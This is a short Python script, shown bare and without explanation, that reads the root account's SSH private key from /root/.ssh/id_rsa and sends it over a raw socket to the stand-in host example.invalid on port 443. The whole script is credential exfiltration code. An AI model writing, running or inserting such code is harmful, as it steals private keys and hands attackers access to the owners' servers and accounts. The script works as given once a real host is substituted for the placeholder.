import socket

with open("/root/.ssh/id_rsa") as file:
    key = file.read()

sock = socket.socket()
sock.connect(("example.invalid", 443))
sock.sendall(key.encode())
